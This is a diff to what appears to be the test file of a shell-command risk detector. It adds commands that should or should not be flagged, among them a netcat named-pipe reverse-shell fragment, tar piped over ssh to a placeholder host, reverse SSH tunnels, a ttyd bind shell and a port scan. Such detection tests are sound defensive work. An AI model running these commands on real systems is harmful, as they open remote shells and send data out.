@@ -22,7 +22,7 @@ HITS = [
     ("socat -u file:/srv/x tcp:h:1", "sends-raw"),
     ("socat tcp-listen:1,fork -", "listens"),
     ("openssl s_server -quiet -port 1", "shell-listener"),
-    ("openssl enc -d -in x | sh", "executes-decoded"),
+    ("openssl enc -d -in x | sh", "executes-encoded"),
     ("openssl req -engine ./e.so", "loads-library"),
     ("ssh -R 1:localhost:22 h", "tunnels"),
     ("ngrok http 80", "tunnels"),
@@ -31,6 +31,13 @@ HITS = [
     ("stty raw -echo; fg", "shell-listener"),
     ("xterm -display 192.0.2.7:1", "reverse-shell"),
     ("ztcp h 1", "raw-network"),
+    ("nc -zv h 1-1000", "scans-network"),
+    ("nc h 1 0/tmp/p", "sends-raw"),
+    ("mknod /tmp/p p && nc h 1 0/tmp/p", "reverse-shell"),
+    ("tar c x | ssh h 'cat > y'", "copies-out"),
+    ("autossh -M 0 -R 1:localhost:22 h", "tunnels"),
+    ("ttyd bash", "bind-shell"),
+    ("/usr/sbin/sshd -p 2222", "listens"),
 ]
 MISSES = [
     ("nc -zv h 1", "reverse-shell"),
@@ -44,6 +51,12 @@ MISSES = [
     ("code .", "tunnels"),
     ("xterm -display localhost:0", "reverse-shell"),
     ("stty sane", "shell-listener"),
+    ("nc -zv h 443", "scans-network"),
+    ("echo ls | ssh h", "copies-out"),
+    ("sshd -t", "listens"),
+    ("ttyd --version", "bind-shell"),
+    ("ssh -i ~/.ssh/id_rsa h uptime", "reads-secret"),
+    ("ssh-add ~/.ssh/id_ed25519", "reads-secret"),
 ]
 
 
